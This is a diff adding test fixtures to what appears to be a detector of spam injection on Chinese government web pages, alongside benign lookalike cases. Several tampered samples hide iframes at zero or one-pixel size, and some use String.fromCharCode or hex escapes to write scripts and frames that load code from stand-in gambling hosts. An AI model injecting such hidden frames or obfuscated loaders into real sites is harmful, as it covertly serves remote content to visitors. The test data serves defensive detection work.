@@ -66,6 +66,12 @@ TAMPERED = (
     ("links to trades that no county links", {"end": "<div class='links'>友情链接：<a href='http://b2.example'>传奇私服</a> <a href='http://c3.example'>私家侦探</a> <a href='http://d4.example'>代孕公司</a></div>"}, ("私家侦探", "代孕公司")),
     ("brands in the keywords", {"head": "<meta name='keywords' content='必威体育,必威app,betway'>"}, ("必威",)),
     ("forged papers in the description", {"head": "<meta name='description' content='办理各类文凭毕业证，微信wx88997766'>"}, ("毕业证",)),
+    ("a lottery in the crumb", {"crumb": "<a href='/'>首页</a> &gt; <a href='/'>天下彩免费资料</a> &gt; 部门动态"}, ("天下彩",)),
+    ("lotteries among the news", {"end": "<ul class='news'><li><a href='/1.html'>香港开奖现场直播</a><span>05-07</span></li><li><a href='/2.html'>图书馆延长开放</a><span>05-03</span></li></ul>"}, ("香港开奖",)),
+    ("a frame of no size from elsewhere", {"end": "<iframe src='http://www.lucky-888.example/in.html' width='0' height='0' frameborder='0'></iframe>"}, ("lucky-888",)),
+    ("a frame of one point by its style", {"end": "<iframe src='//hot.yule-city.example/a' style='width:1px;height:1px;border:0'></iframe>"}, ("yule-city",)),
+    ("a script in numbers that writes another", {"end": "<script>document.write(String.fromCharCode(60,115,99,114,105,112,116,32,115,114,99,61,34,104,116,116,112,58,47,47,106,115,46,108,117,99,107,121,45,56,56,56,46,101,120,97,109,112,108,101,47,97,46,106,115,34,62,60,47,115,99,114,105,112,116,62))</script>"}, ("lucky-888",)),
+    ("a script in escapes that writes a frame", {"end": "<script>document['write']('\\x3c\\x69\\x66\\x72\\x61\\x6d\\x65 src=\\x22http://yule-city.example/x\\x22 width=0\\x3e\\x3c/iframe\\x3e')</script>"}, ("yule-city",)),
     ("gambling in the description", {"head": "<meta name='Description' content='澳门新葡京娱乐场,皇冠足球投注,百家乐技巧,现金网开户'>"}, ("葡京", "百家乐", "皇冠")),
 )
 CLEAN = (
@@ -98,6 +104,11 @@ CLEAN = (
     ("ruby for children", {"body": _BODY + "<p>小朋友们认识了“<ruby>鼋<rt>yuán</rt></ruby>”字。</p>"}),
     ("an old name of the site", {"head": "<meta name='SiteName' content='云岭县政府信息网'>"}),
     ("a shop window of broadcasts", {"heading": "电商直播助农", "title": "电商直播助农", "tag": "电商直播助农", "body": "<p>主播在直播间推介土鸡蛋，真人出镜，国际化妆品牌免费试用，现场注册登录平台的用户领券。</p><p>活动由县商务局主办。</p>"}),
+    ("a counter in a frame of no size", {"end": "<iframe src='http://count.hits.example/c?id=3' width='0' height='0'></iframe><iframe src='/stat.html' width='0' height='0'></iframe>"}),
+    ("a frame of the province", {"end": "<iframe src='http://www.hebei.gov.cn/sso' style='width:0;height:0'></iframe>"}),
+    ("the mark of public institutions", {"end": "<script>document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/1.js' type='text/javascript'%3E%3C/script%3E\"));</script>"}),
+    ("a mail address in numbers", {"end": "<script>document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,109,97,105,108,116,111,58,97,64,98,46,99,110,34,62,60,47,97,62))</script>"}),
+    ("the page of a lottery's funds", {"body": _after(2, "<p>福彩开奖直播由省福彩中心组织，体彩开奖结果次日公布，公益金用于养老。</p>")}),
     ("static folders of the site's own", {"head": "<link href='/static/css/main.css' rel='stylesheet'><script src='/static/js/app.js'></script>", "end": "<img src='/static/picture/logo.png'>"}),
 )
 # fmt: on
